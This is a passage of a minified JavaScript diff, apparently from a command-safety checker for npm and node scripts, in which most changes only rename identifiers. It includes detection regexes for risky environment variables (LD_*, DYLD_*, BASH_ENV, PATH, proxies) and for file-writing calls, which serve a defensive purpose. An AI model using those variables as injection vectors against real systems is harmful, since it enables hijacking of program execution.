 "$1")];const n=[];for(;e.length>0;){const s=[];for(const r of e){const i=/\{([^{},]*(?:,[^{},]*)+)\}/.exec(r);if(i===null)
 n.push(r);else{const{0:o,1:a="",index:c}=i,[l,u]=[r.slice(0,c),r.slice(c+o.length)];s.push(...a.split(",").map(d=>`${l}${d}${u}`))}}
-if(s.length+n.length>YT)return;e=s}return n}const Yh=Js(async(t,e)=>{const n=await Jt(t,e),s=VT(n?.workspaces??[]);if("u\
+if(s.length+n.length>HT)return;e=s}return n}const qh=Us(async(t,e)=>{const n=await Jt(t,e),s=GT(n?.workspaces??[]);if("u\
 nclear"in s)return s;const{wanted:r,entries:i,refused:o}=s;if(r.length===0)return[];const a=[];for(const{path:u,kind:d}of t.
-files()){const B=Xh(e,u);if(B!==void 0)if(d==="symlink"){const f=r.some(g=>Bn(B,g,{partial:!0})),h=r.some(g=>Bn(B,g)),m=f?
+files()){const B=Vh(e,u);if(B!==void 0)if(d==="symlink"){const f=r.some(g=>Bn(B,g,{partial:!0})),h=r.some(g=>Bn(B,g)),m=f?
 Je(t,u):void 0;if(m?.kind==="outside")return{unclear:u};if(m?.kind!=="inside"||m.entry.kind!=="directory")continue;if(!h||
 o.length>0||r.some(g=>g.startsWith(`${B}/`)))return{unclear:u};a.push(B)}else te.posix.basename(u)==="package.json"&&a.push(
 te.posix.dirname(B))}const c=a.filter(u=>r.some(d=>Bn(u,d))).filter(u=>!u.split("/").includes("node_modules")).filter(u=>!o.
 some(d=>Bn(u,d,{dot:!0}))).sort((u,d)=>u.localeCompare(d,"en")),l=i.flatMap(u=>c.filter(d=>u.some(B=>Bn(d,B,{partial:!0}))));
-return QT(t,e,[...new Set(l)])});async function QT(t,e,n){const s=[],r=new Set;for(const i of n){const o=te.posix.join(e,
-i).replace(/^\.$/,""),a=await Xs(t,o);if(a===void 0)continue;if(a===Rt)return{broken:`${o}/package.json`};const c=a.name||
-e1(o);if(r.has(c))return{broken:a.path};r.add(c),s.push({directory:o,name:c})}return s}function e1(t){const e=te.posix.basename(
-te.posix.dirname(t)),n=te.posix.basename(t);return e.startsWith("@")?`${e}/${n}`:n}function Xh(t,e){return t===""?e:e.startsWith(
-`${t}/`)?e.slice(t.length+1):void 0}function t1(t,e,{directory:n,project:s}){const r=c=>te.posix.join("/",c),i=r(Xh(s,`${n}\
+return UT(t,e,[...new Set(l)])});async function UT(t,e,n){const s=[],r=new Set;for(const i of n){const o=te.posix.join(e,
+i).replace(/^\.$/,""),a=await Vs(t,o);if(a===void 0)continue;if(a===Nt)return{broken:`${o}/package.json`};const c=a.name||
+JT(o);if(r.has(c))return{broken:a.path};r.add(c),s.push({directory:o,name:c})}return s}function JT(t){const e=te.posix.basename(
+te.posix.dirname(t)),n=te.posix.basename(t);return e.startsWith("@")?`${e}/${n}`:n}function Vh(t,e){return t===""?e:e.startsWith(
+`${t}/`)?e.slice(t.length+1):void 0}function ZT(t,e,{directory:n,project:s}){const r=c=>te.posix.join("/",c),i=r(Vh(s,`${n}\
 /`)===void 0?s:n),o=te.posix.resolve(i,e),a=[te.posix.relative(r(s),te.posix.resolve(r(n),e)),e];return t.filter(c=>{if(c.
 name===e||r(c.directory)===o)return!0;const l=te.posix.relative(i,r(c.directory)),u=e.startsWith("./")?`./${l}`:l;return a.
-some(d=>n1(u,d))})}function n1(t,e){const n=/^\.(?:\/|$)/.test(e)===t.startsWith("./"),[s,r]=[te.posix.normalize(t),te.posix.
-normalize(`${e}/`)];return n&&e!==""&&`${te.posix.dirname(s)}/`===r&&!te.posix.basename(s).startsWith(".")}const Qh={script:"",
-passes:!1};async function s1(t,e,n){const{workspace:s,workspaces:r,includeRoot:i}=t,o=await r1(t,e,n);if("problems"in o)
+some(d=>KT(u,d))})}function KT(t,e){const n=/^\.(?:\/|$)/.test(e)===t.startsWith("./"),[s,r]=[te.posix.normalize(t),te.posix.
+normalize(`${e}/`)];return n&&e!==""&&`${te.posix.dirname(s)}/`===r&&!te.posix.basename(s).startsWith(".")}const Yh={script:"",
+passes:!1};async function WT(t,e,n){const{workspace:s,workspaces:r,includeRoot:i}=t,o=await qT(t,e,n);if("problems"in o)
 return o;const{directory:a,implied:c}=o;if(r===!1&&s.length>0)return ae("flag-value",n,{program:"npm",flag:"--no-workspa\
 ces",fault:"npm refuses it beside `--workspace`"});const l={project:a,directories:[a],selected:!1,missing:[]};if(r!==!0&&
-s.length===0&&c===void 0)return l;const u=await Jt(e.tree,a);if(u===void 0)return l;const d=await ep(a,e,n);if("problems"in
+s.length===0&&c===void 0)return l;const u=await Jt(e.tree,a);if(u===void 0)return l;const d=await Xh(a,e,n);if("problems"in
 d)return d;const B=new Map;i&&B.set(u.name,a);const f=[],h=s.length>0?s:c===void 0?[]:[void 0];if(h.length===0)for(const m of d)
-B.set(m.name,m.directory);for(const m of h){const g={directory:e.directory,project:a},C=m??te.posix.join("/",c??""),y=t1(
-d,C,g);y.length===0&&m!==void 0&&f.push(be("npm-script-missing",n,{...Qh,workspace:m}));for(const b of y)B.set(b.name,b.
-directory)}return B.size===0?f.length>0?{targets:[],problems:f}:ae("npm-script-missing",n,{...Qh,workspace:""}):{project:a,
-directories:[...B.values()],selected:!0,missing:f}}async function r1({prefix:t,workspaces:e},n,s){if(t!==void 0)return i1(
-t,n,s);const{tree:r,directory:i}=n,o=er(i),a=o.find(c=>tp(r,c)||o1(r,c));if(a===void 0||!tp(r,a))return ae("package-json\
--missing",s,{directory:i});if(e===!1)return{directory:a};for(const c of o.slice(o.indexOf(a)+1)){const l=await ep(c,n,s);
-if("problems"in l)return l;if(l.some(u=>u.directory===a))return{directory:c,implied:a}}return{directory:a}}async function ep(t,{
-tree:e},n){const s=await Yh(e,t);return"unclear"in s?ae("target-outside",n,{path:s.unclear,reason:"workspace"}):"broken"in
-s?ae("package-json-invalid",n,{path:s.broken}):s}function i1(t,e,n){if(xe(rt(e,t))===void 0)return Re;const s=qa(Je(e.tree,
-rt(e,t)),t,n);return"problems"in s?s:{directory:s.path}}function er(t){return t===""?[""]:[t,...Kr(t).reverse(),""]}function tp(t,e){
-return Je(t,te.posix.join(e,"package.json")).kind!=="missing"}function o1(t,e){return Je(t,te.posix.join(e,"node_modules")).
-kind==="inside"}const a1=new Set(["--usage","--version","--versions"]);function tc({flags:t}){const e=t.findLast(({name:r})=>r===
-"--prefix")?.value,n=vi(t,"--workspaces"),s=vi(t,"--ignore-scripts");return{informs:t.some(({name:r})=>a1.has(r)),...e===
+B.set(m.name,m.directory);for(const m of h){const g={directory:e.directory,project:a},C=m??te.posix.join("/",c??""),y=ZT(
+d,C,g);y.length===0&&m!==void 0&&f.push(be("npm-script-missing",n,{...Yh,workspace:m}));for(const b of y)B.set(b.name,b.
+directory)}return B.size===0?f.length>0?{targets:[],problems:f}:ae("npm-script-missing",n,{...Yh,workspace:""}):{project:a,
+directories:[...B.values()],selected:!0,missing:f}}async function qT({prefix:t,workspaces:e},n,s){if(t!==void 0)return VT(
+t,n,s);const{tree:r,directory:i}=n,o=Xs(i),a=o.find(c=>Qh(r,c)||YT(r,c));if(a===void 0||!Qh(r,a))return ae("package-json\
+-missing",s,{directory:i});if(e===!1)return{directory:a};for(const c of o.slice(o.indexOf(a)+1)){const l=await Xh(c,n,s);
+if("problems"in l)return l;if(l.some(u=>u.directory===a))return{directory:c,implied:a}}return{directory:a}}async function Xh(t,{
+tree:e},n){const s=await qh(e,t);return"unclear"in s?ae("target-outside",n,{path:s.unclear,reason:"workspace"}):"broken"in
+s?ae("package-json-invalid",n,{path:s.broken}):s}function VT(t,e,n){if(xe(rt(e,t))===void 0)return Ne;const s=Wa(Je(e.tree,
+rt(e,t)),t,n);return"problems"in s?s:{directory:s.path}}function Xs(t){return t===""?[""]:[t,...Jr(t).reverse(),""]}function Qh(t,e){
+return Je(t,te.posix.join(e,"package.json")).kind!=="missing"}function YT(t,e){return Je(t,te.posix.join(e,"node_modules")).
+kind==="inside"}const XT=new Set(["--usage","--version","--versions"]);function ec({flags:t}){const e=t.findLast(({name:r})=>r===
+"--prefix")?.value,n=vi(t,"--workspaces"),s=vi(t,"--ignore-scripts");return{informs:t.some(({name:r})=>XT.has(r)),...e===
 void 0?{}:{prefix:e},...n===void 0?{}:{workspaces:n},workspace:t.flatMap(({name:r,value:i})=>r==="--workspace"&&i?[i]:[]),
 includeRoot:vi(t,"--include-workspace-root")===!0,...s===void 0?{}:{ignoreScripts:s},ifPresent:vi(t,"--if-present")===!0}}
-function vi(t,e){const n=t.findLast(s=>s.name===e);return n&&n.negated!==!0}function Cs(t){return/^node_modules\/((?:@[^/]+\/)?[^/.@][^/]*)\//.
-exec(t)?.[1]}async function tr(t,e,n){const{tree:s,base:r=s}=rc(t),{name:i,path:o}=e,a=await c1(s,r,i),c=a===void 0?await d1(
+function vi(t,e){const n=t.findLast(s=>s.name===e);return n&&n.negated!==!0}function gs(t){return/^node_modules\/((?:@[^/]+\/)?[^/.@][^/]*)\//.
+exec(t)?.[1]}async function Qs(t,e,n){const{tree:s,base:r=s}=sc(t),{name:i,path:o}=e,a=await QT(s,r,i),c=a===void 0?await n1(
 s,e):void 0,l=u=>be("dependency-unverified",n,{name:i,path:o,...u});return[...a===void 0?[]:[l({fault:a})],...c===void 0?
-[]:[l({fault:"stale",differs:c})],...await nc(t,i,n)]}async function nc(t,e,n){const{tree:s,base:r=s}=rc(t);return[...(await u1(
-s,r)).map(o=>be("dependency-not-compared",n,{name:e,path:o})),...await PT(s,r,e,n)]}function Di(t){return xn(t,"dependen\
-cy-unverified")?t.args.fault!=="stale":xn(t,"target-missing")&&t.args.untracked===!0}async function c1(t,e,n){const[s,r]=await Promise.
+[]:[l({fault:"stale",differs:c})],...await tc(t,i,n)]}async function tc(t,e,n){const{tree:s,base:r=s}=sc(t);return[...(await e1(
+s,r)).map(o=>be("dependency-not-compared",n,{name:e,path:o})),...await AT(s,r,e,n)]}function Di(t){return xn(t,"dependen\
+cy-unverified")?t.args.fault!=="stale":xn(t,"target-missing")&&t.args.untracked===!0}async function QT(t,e,n){const[s,r]=await Promise.
 all([Zt(t),Zt(e)]),i=({npm:l})=>l?.packages.has(n)===!0,o=l=>i(l)||l.unread.length>0;return i(r)&&!i(s)&&t.stat(r.npm?.path??
 "")||o(r)&&!o(s)?"removed":(await Jt(t,""))?.dependencies.has(n)?o(s)||(s.npm??r.npm)===void 0?void 0:"unlocked":"undecl\
-ared"}async function u1(t,e){const[{npm:n,unread:s},r]=await Promise.all([Zt(t),Zt(e)]);if(!n&&s.length===0&&!r.npm&&r.unread.
-length===0)return[""];const i=await Promise.all(s.map(o=>hT(t,e,o)));return s.filter((o,a)=>i[a])}async function l1(t,e,n){
+ared"}async function e1(t,e){const[{npm:n,unread:s},r]=await Promise.all([Zt(t),Zt(e)]);if(!n&&s.length===0&&!r.npm&&r.unread.
+length===0)return[""];const i=await Promise.all(s.map(o=>iT(t,e,o)));return s.filter((o,a)=>i[a])}async function t1(t,e,n){
 const{npm:s,unread:r}=await Zt(t),i=s?.packages,o=r.length>0||i===void 0||i.has(e);return n.has(e)&&o?e:[...n].find(a=>Object.
-hasOwn(i?.get(a)?.bin??{},e))}async function d1(t,{name:e,binary:n}){const s=`node_modules/${e}`,r=(await Zt(t)).npm?.packages.
-get(e);if(r===void 0||t.stat(s)===void 0)return;const i=await gs(t,`${s}/package.json`),o=yt(i),a=dn(o,"name")||e,c=dn(o,
+hasOwn(i?.get(a)?.bin??{},e))}async function n1(t,{name:e,binary:n}){const s=`node_modules/${e}`,r=(await Zt(t)).npm?.packages.
+get(e);if(r===void 0||t.stat(s)===void 0)return;const i=await ms(t,`${s}/package.json`),o=yt(i),a=dn(o,"name")||e,c=dn(o,
 "version"),l=(m,g,C)=>`the installed package has the ${m} \`${g||"nothing"}\`, but the lockfile has \`${C}\``;if(i!==void 0&&
 a!==r.name)return l("name",a,r.name);if(i!==void 0&&!["",c].includes(r.version))return l("version",c,r.version);const u=r.
 bin??(o.bin===void 0?void 0:bi(o.bin,a)??{});if(n===void 0||u===void 0)return;const{name:d,file:B}=n,f=Object.entries(u).
 flatMap(([m,g])=>d===void 0||d===m?[te.posix.normalize(g)]:[]),h=d===void 0?"binary":`binary ${d}`;return f.includes(B)?
-void 0:l(h,B,f[0]??"nothing")}function sc({tree:t,base:e=t,directory:n}){const s=r=>i=>pi.some(o=>i.stat(te.posix.join(r,
-o))!==void 0);return er(n).find(r=>[t,e].some(s(r)))??""}function rc(t,e=sc(t)){if(e==="")return t;const{tree:n,base:s,directory:r,
+void 0:l(h,B,f[0]??"nothing")}function nc({tree:t,base:e=t,directory:n}){const s=r=>i=>pi.some(o=>i.stat(te.posix.join(r,
+o))!==void 0);return Xs(n).find(r=>[t,e].some(s(r)))??""}function sc(t,e=nc(t)){if(e==="")return t;const{tree:n,base:s,directory:r,
 changed:i}=t,o=`${e}/`;return{...t,tree:Mn(n,e),...s&&{base:Mn(s,e)},directory:r.slice(o.length),changed:new Set([...i].
-flatMap(a=>a.startsWith(o)?a.slice(o.length):[]))}}async function np(t,e){const n=sc(t),{targets:s,problems:r}=await e(rc(
-t,n));return{targets:s.map(i=>i.path===void 0?i:{...i,path:te.posix.join(n,i.path)}),problems:r}}const B1=new Set(["--en\
-v-file","--env-file-if-exists","--prefix"]);function sp(t,e){const{passthrough:n}=t,s=[],r=(o,a)=>{const c=fn(o,a,e);c!==
-void 0&&s.push(c)};for(const o of[t,...fi(t)]){for(const{name:c,value:l,span:u}of o.flags)l!==void 0&&(B1.has(c)&&r(l,u),
+flatMap(a=>a.startsWith(o)?a.slice(o.length):[]))}}async function ep(t,e){const n=nc(t),{targets:s,problems:r}=await e(sc(
+t,n));return{targets:s.map(i=>i.path===void 0?i:{...i,path:te.posix.join(n,i.path)}),problems:r}}const s1=new Set(["--en\
+v-file","--env-file-if-exists","--prefix"]);function tp(t,e){const{passthrough:n}=t,s=[],r=(o,a)=>{const c=fn(o,a,e);c!==
+void 0&&s.push(c)};for(const o of[t,...fi(t)]){for(const{name:c,value:l,span:u}of o.flags)l!==void 0&&(s1.has(c)&&r(l,u),
 c==="--workspace"&&/^\.{1,2}(?:[\\/]|$)|^[\\/]/.test(l)&&r(l,u));for(const{as:c,path:l,span:u}of o.subcommand==="exec"&&
 o.tool?.files||[]){const d=c==="tests"?xi(l,u,e):void 0;d!==void 0&&s.push(d)}if(o.program!=="node"&&o.starts!=="file")continue;
-const a=o.program==="node"&&ci(o)?xi:fn;for(const{text:c,span:l}of o.operands){const u=c===""||c==="-"?void 0:a(c,l,e);u!==
-void 0&&s.push(u)}}const i=n.find(({text:o})=>f1.test(o));return i!==void 0&&s.push(be("absolute-path",i.span,{path:i.text})),
-s}const f1=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;function xi(t,e,n){
-if(!ki(t))return fn(t,e,n);const s=Qs(t);if(s===void 0)return be("glob-unclear",e,{pattern:t,reason:"too_many"});for(const r of[
+const a=o.program==="node"&&ai(o)?xi:fn;for(const{text:c,span:l}of o.operands){const u=c===""||c==="-"?void 0:a(c,l,e);u!==
+void 0&&s.push(u)}}const i=n.find(({text:o})=>r1.test(o));return i!==void 0&&s.push(be("absolute-path",i.span,{path:i.text})),
+s}const r1=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;function xi(t,e,n){
+if(!ki(t))return fn(t,e,n);const s=Ys(t);if(s===void 0)return be("glob-unclear",e,{pattern:t,reason:"too_many"});for(const r of[
 t,...s]){const i=fn(r,e,n);if(i!==void 0)return{...i,args:{...i.args,path:t}}}}function fn(t,e,n){if(/^[A-Za-z][A-Za-z0-9+.-]+:/.
 test(t)&&/^(?:data|node|file|[a-z]+:\/)/i.test(t))return be("target-outside",e,{path:t,reason:"address"});const s=/^(?:[\\/]|[A-Za-z]:)/.
 test(t),r=s?void 0:xe(n===""?t:`${n}/${t}`);if(r===void 0)return be("target-outside",e,{path:t,reason:s?"absolute":"abov\
-e"});if(xt(r,".git",{ignoreCase:!0}))return be("target-outside",e,{path:t,reason:"git"})}const h1=new Set(["","js","mjs",
-"cjs","ts","mts","cts"]);async function ic(t,e,n){const{tree:s}=t,r=fn(e,n,t.directory);if(r!==void 0)return{targets:[],
-problems:[r]};if(e.includes("\\"))return ae("target-not-a-file",n,{path:e,reason:"backslash"});const i=xe(rt(t,e))??"",o=sc(
-t);if(o!==""&&xt(i,te.posix.join(o,"node_modules")))return np(t,u=>ic(u,e,n));const a=ap(s,oc(i));if(a===void 0)return p1(
-t,e,i,n);if(a.kind!=="inside"||a.entry.kind!=="directory")return rp(t,{path:e,wanted:i,found:a},n);const c=await cp(s,i);
-if(c===Rt)return ae("package-json-invalid",n,{path:te.posix.join(i,"package.json")});if(c===void 0)return ae("target-not\
--a-file",n,{path:e,reason:"directory"});const l=await rp(t,{path:e,wanted:i,found:c.found},n);return c.by===void 0||!t.changed.
-has(c.by)?l:Ie([l,ae("target-changed",n,{path:c.by})])}async function rp(t,{path:e,wanted:n,found:s},r){const{tree:i}=t,
-o=Ci(s,e,r);if("problems"in o)return o;const a=/\.([^./]*)$/.exec(o.path.replace(/.*\//,""))?.[1]??"";if(!h1.has(a))return ae(
-"target-extension",r,{program:"node",path:e,extension:a});const c=await ip(t,o,e,r);if(c.some(Di))return{targets:[],problems:c};
-const l=Cs(o.path);if(l&&!xt(n,"node_modules")&&!n.includes(`node_modules/${l}`))return ae("dependency-unverified",r,{name:l,
-path:e,fault:"linked"});const u=yi(t,{name:e,path:o.path,wanted:n},r),B=o.tracked&&await C1(i,o)?[be("target-writes",r,{
-path:o.path})]:[];return{...u,problems:[...c,...u.problems,...B]}}async function ip(t,{path:e,tracked:n,built:s},r,i){const o=Cs(
+e"});if(xt(r,".git",{ignoreCase:!0}))return be("target-outside",e,{path:t,reason:"git"})}const i1=new Set(["","js","mjs",
+"cjs","ts","mts","cts"]);async function rc(t,e,n){const{tree:s}=t,r=fn(e,n,t.directory);if(r!==void 0)return{targets:[],
+problems:[r]};if(e.includes("\\"))return ae("target-not-a-file",n,{path:e,reason:"backslash"});const i=xe(rt(t,e))??"",o=nc(
+t);if(o!==""&&xt(i,te.posix.join(o,"node_modules")))return ep(t,u=>rc(u,e,n));const a=ip(s,ic(i));if(a===void 0)return o1(
+t,e,i,n);if(a.kind!=="inside"||a.entry.kind!=="directory")return np(t,{path:e,wanted:i,found:a},n);const c=await op(s,i);
+if(c===Nt)return ae("package-json-invalid",n,{path:te.posix.join(i,"package.json")});if(c===void 0)return ae("target-not\
+-a-file",n,{path:e,reason:"directory"});const l=await np(t,{path:e,wanted:i,found:c.found},n);return c.by===void 0||!t.changed.
+has(c.by)?l:Ie([l,ae("target-changed",n,{path:c.by})])}async function np(t,{path:e,wanted:n,found:s},r){const{tree:i}=t,
+o=Ci(s,e,r);if("problems"in o)return o;const a=/\.([^./]*)$/.exec(o.path.replace(/.*\//,""))?.[1]??"";if(!i1.has(a))return ae(
+"target-extension",r,{program:"node",path:e,extension:a});const c=await sp(t,o,e,r);if(c.some(Di))return{targets:[],problems:c};
+const l=gs(o.path);if(l&&!xt(n,"node_modules")&&!n.includes(`node_modules/${l}`))return ae("dependency-unverified",r,{name:l,
+path:e,fault:"linked"});const u=yi(t,{name:e,path:o.path,wanted:n},r),B=o.tracked&&await u1(i,o)?[be("target-writes",r,{
+path:o.path})]:[];return{...u,problems:[...c,...u.problems,...B]}}async function sp(t,{path:e,tracked:n,built:s},r,i){const o=gs(
 e);return o===void 0?(n||s)&&!xt(e,"node_modules")?[]:[be("target-missing",i,{path:r,untracked:!0})]:n?[be("dependency-u\
-nverified",i,{name:o,path:r,fault:"committed"})]:await tr(t,{name:o,path:r},i)}async function p1(t,e,n,s){const r=Cs(n);
+nverified",i,{name:o,path:r,fault:"committed"})]:await Qs(t,{name:o,path:r},i)}async function o1(t,e,n,s){const r=gs(n);
 if(r===void 0&&t.tree.isPending?.(n))return ae("target-not-judged",s,{path:e});if(r===void 0||t.tree.stat("node_modules")!==
-void 0)return gi(t.tree,n,e,s);const i=await tr(t,{name:r,path:e},s);return i.some(Di)?{targets:[],problems:i}:Ie([ae("n\
-ot-installed",s,{name:r}),{targets:[],problems:i}])}async function m1(t,e,n){const s=xi(e,n,t.directory);if(s!==void 0)return{
-targets:[],problems:[s]};if(ki(e))return(Qs(e)??[]).map(a=>rt(t,a)).some(a=>Je(t.tree,Vh(a)).kind==="outside")?ae("targe\
-t-outside",n,{path:e,reason:"symlink"}):Re;const r=Je(t.tree,rt(t,e));return r.kind==="inside"&&r.entry.kind==="director\
-y"&&r.entry.tracked?Re:ic(t,e,n)}const op=256*1024,g1=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
-async function C1(t,e){if((e.size??0)>op)return!1;const n=(await t.read(e.path)).toString("latin1");return g1.test(n)}const y1=[
-"",".js",".json",".node"];function oc(t){return t===""?[""]:y1.map(e=>t+e)}function ap(t,e){const n=e.map(s=>Je(t,s)).filter(
-s=>s.kind!=="missing");return n.find(s=>s.kind!=="inside"||mt(s.entry.kind))??n[0]}async function cp(t,e){const n=te.posix.
-join(e,"package.json"),s=await gs(t,n);if(s===Rt)return Rt;const r=s?.main,i=up(e),o=s===void 0?{}:{by:n};if(typeof r!="\
-string"||r===""){const l=lp(t,i);return l&&{found:l,...o}}const a=r.startsWith("/")?void 0:xe(te.posix.join(e,r));if(a===
-void 0)return{found:{kind:"outside",path:r},...o};const c=lp(t,[...oc(a),...up(a),...i]);return c&&{found:c,...o}}function up(t){
-return oc(te.posix.join(t,"index")).slice(1)}function lp(t,e){return e.map(n=>Je(t,n)).find(n=>n.kind==="inside"?mt(n.entry.
-kind):n.kind!=="missing")}async function w1(t,e){const{flags:n,operands:s}=t,r=ci(t);if(b1(t,r))return Re;const i=[];for(const c of n)
-i.push(await dp(c,e));for(const{text:c,span:l}of s){if(c===""||c.startsWith("-"))continue;const u=r?m1:ic;i.push(await u(
+void 0)return gi(t.tree,n,e,s);const i=await Qs(t,{name:r,path:e},s);return i.some(Di)?{targets:[],problems:i}:Ie([ae("n\
+ot-installed",s,{name:r}),{targets:[],problems:i}])}async function a1(t,e,n){const s=xi(e,n,t.directory);if(s!==void 0)return{
+targets:[],problems:[s]};if(ki(e))return(Ys(e)??[]).map(a=>rt(t,a)).some(a=>Je(t.tree,Wh(a)).kind==="outside")?ae("targe\
+t-outside",n,{path:e,reason:"symlink"}):Ne;const r=Je(t.tree,rt(t,e));return r.kind==="inside"&&r.entry.kind==="director\
+y"&&r.entry.tracked?Ne:rc(t,e,n)}const rp=256*1024,c1=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
+async function u1(t,e){if((e.size??0)>rp)return!1;const n=(await t.read(e.path)).toString("latin1");return c1.test(n)}const l1=[
+"",".js",".json",".node"];function ic(t){return t===""?[""]:l1.map(e=>t+e)}function ip(t,e){const n=e.map(s=>Je(t,s)).filter(
+s=>s.kind!=="missing");return n.find(s=>s.kind!=="inside"||mt(s.entry.kind))??n[0]}async function op(t,e){const n=te.posix.
+join(e,"package.json"),s=await ms(t,n);if(s===Nt)return Nt;const r=s?.main,i=ap(e),o=s===void 0?{}:{by:n};if(typeof r!="\
+string"||r===""){const l=cp(t,i);return l&&{found:l,...o}}const a=r.startsWith("/")?void 0:xe(te.posix.join(e,r));if(a===
+void 0)return{found:{kind:"outside",path:r},...o};const c=cp(t,[...ic(a),...ap(a),...i]);return c&&{found:c,...o}}function ap(t){
+return ic(te.posix.join(t,"index")).slice(1)}function cp(t,e){return e.map(n=>Je(t,n)).find(n=>n.kind==="inside"?mt(n.entry.
+kind):n.kind!=="missing")}async function d1(t,e){const{flags:n,operands:s}=t,r=ai(t);if(B1(t,r))return Ne;const i=[];for(const c of n)
+i.push(await up(c,e));for(const{text:c,span:l}of s){if(c===""||c.startsWith("-"))continue;const u=r?a1:rc;i.push(await u(
 e,c,l))}const{targets:o,problems:a}=Ie(i);return n.some(({name:c})=>c==="--check")?{targets:o.map(c=>({...c,parsed:!0})),
-problems:a}:{targets:o,problems:a}}function b1({operands:t},e){const n=t[0]?.text;return n==="inspect"||n==="debug"&&!e}
-const _1=new Set(["--import","--require","--experimental-loader"]);async function dp(t,e){const{name:n,value:s="",span:r}=t;
-return n==="--env-file"||n==="--env-file-if-exists"?v1(e,s,r):n==="--test-reporter-destination"?E1(e,s,r):!_1.has(n)||!/^[@a-z]/i.
-test(s)?Re:Bp(e,s,r)}function E1(t,e,n){if(/^std(?:out|err)$/.test(e))return Re;const s=fn(e,n,t.directory);if(s!==void 0)
+problems:a}:{targets:o,problems:a}}function B1({operands:t},e){const n=t[0]?.text;return n==="inspect"||n==="debug"&&!e}
+const f1=new Set(["--import","--require","--experimental-loader"]);async function up(t,e){const{name:n,value:s="",span:r}=t;
+return n==="--env-file"||n==="--env-file-if-exists"?m1(e,s,r):n==="--test-reporter-destination"?h1(e,s,r):!f1.has(n)||!/^[@a-z]/i.
+test(s)?Ne:lp(e,s,r)}function h1(t,e,n){if(/^std(?:out|err)$/.test(e))return Ne;const s=fn(e,n,t.directory);if(s!==void 0)
 return{targets:[],problems:[s]};const r=Je(t.tree,xe(rt(t,e))??"");return r.kind==="outside"?ae("target-outside",n,{path:e,
-reason:"symlink"}):r.kind==="inside"&&r.entry.tracked?ae("writes-files",n,{program:"node",flag:e}):Re}async function Bp(t,e,n){
-const s=/^(?:@[^/]+\/)?[^/]+/.exec(e)?.[0]??e;return{targets:[],problems:await tr(t,{name:s,path:e},n)}}const k1=/(?<![A-Za-z0-9_])(?:NODE_[A-Z_]+|LD_[A-Z_]+|DYLD_[A-Z_]+|npm_[a-z_]+|GIT_[A-Z_]+|BASH_ENV|ENV|IFS|PATH|SHELL|HOME|OPENSSL_[A-Z_]+|SSL_[A-Z_]+|[A-Z]+_PROXY)\s*=/gi;
-async function v1(t,e,n){if(fn(e,n,t.directory)!==void 0)return Re;const s=Je(t.tree,rt(t,e));if(s.kind==="missing"&&t.tree.
+reason:"symlink"}):r.kind==="inside"&&r.entry.tracked?ae("writes-files",n,{program:"node",flag:e}):Ne}async function lp(t,e,n){
+const s=/^(?:@[^/]+\/)?[^/]+/.exec(e)?.[0]??e;return{targets:[],problems:await Qs(t,{name:s,path:e},n)}}const p1=/(?<![A-Za-z0-9_])(?:NODE_[A-Z_]+|LD_[A-Z_]+|DYLD_[A-Z_]+|npm_[a-z_]+|GIT_[A-Z_]+|BASH_ENV|ENV|IFS|PATH|SHELL|HOME|OPENSSL_[A-Z_]+|SSL_[A-Z_]+|[A-Z]+_PROXY)\s*=/gi;
+async function m1(t,e,n){if(fn(e,n,t.directory)!==void 0)return Ne;const s=Je(t.tree,rt(t,e));if(s.kind==="missing"&&t.tree.
 isPending?.(s.path))return ae("target-not-judged",n,{path:e});const r=Ci(s,e,n);if("problems"in r)return r;if(!r.tracked&&
-!r.built)return ae("target-missing",n,{path:e,untracked:!0});if((r.size??0)>op)return ae("environment-file-unsafe",n,{path:e,
-names:[]});const o=[...(await t.tree.read(r.path)).toString("utf8").matchAll(k1)].map(([c])=>c.replace(/\s*=$/,"")).filter(
-c=>c.toUpperCase()!=="NODE_ENV"),a=[...new Set(o)].slice(0,10);return a.length===0?Re:ae("environment-file-unsafe",n,{path:e,
-names:a})}const D1=128*1024,x1=16;function Kt(t,e){return t.length>D1?[]:new N1(t,e).list("",0)}function en(t){return t.
-flatMap(e=>[e,...en(e.inside)])}const O1=new Set("! { do elif else if then time until while".split(" ")),fp=/^([A-Za-z_]\w*)=(.*)$/s;
-function A1({text:t,quoted:e}){return!e&&O1.has(t)}function ac(t){const{words:e,assignments:n}=t,s=e.findIndex(a=>!A1(a));
-if(s<1)return t;const r=e.slice(s),i=r.findIndex(({text:a})=>!fp.test(a)),o=i<0?r:r.slice(0,i);return{...t,words:r.slice(
-o.length),assignments:[...n,...o.map(S1)]}}function S1({text:t,span:e}){const[,n="",s=""]=fp.exec(t)??[];return{name:n,value:s,
+!r.built)return ae("target-missing",n,{path:e,untracked:!0});if((r.size??0)>rp)return ae("environment-file-unsafe",n,{path:e,
+names:[]});const o=[...(await t.tree.read(r.path)).toString("utf8").matchAll(p1)].map(([c])=>c.replace(/\s*=$/,"")).filter(
+c=>c.toUpperCase()!=="NODE_ENV"),a=[...new Set(o)].slice(0,10);return a.length===0?Ne:ae("environment-file-unsafe",n,{path:e,
+names:a})}const g1=128*1024,C1=16;function Kt(t,e){return t.length>g1?[]:new D1(t,e).list("",0)}function en(t){return t.
+flatMap(e=>[e,...en(e.inside)])}const y1=new Set("! { do elif else if then time until while".split(" ")),dp=/^([A-Za-z_]\w*)=(.*)$/s;
+function w1({text:t,quoted:e}){return!e&&y1.has(t)}function oc(t){const{words:e,assignments:n}=t,s=e.findIndex(a=>!w1(a));
+if(s<1)return t;const r=e.slice(s),i=r.findIndex(({text:a})=>!dp.test(a)),o=i<0?r:r.slice(0,i);return{...t,words:r.slice(
+o.length),assignments:[...n,...o.map(b1)]}}function b1({text:t,span:e}){const[,n="",s=""]=dp.exec(t)??[];return{name:n,value:s,
 span:e}}function Oi({problems:t,substituted:e},{span:n}){const s=r=>r.start<n.end&&r.end>n.start;return e.some(s)||t.some(
-r=>T1.has(r.rule)&&s(r.span))}const T1=new Set(["arithmetic-expansion","command-substitution","dollar-quote","variable-e\
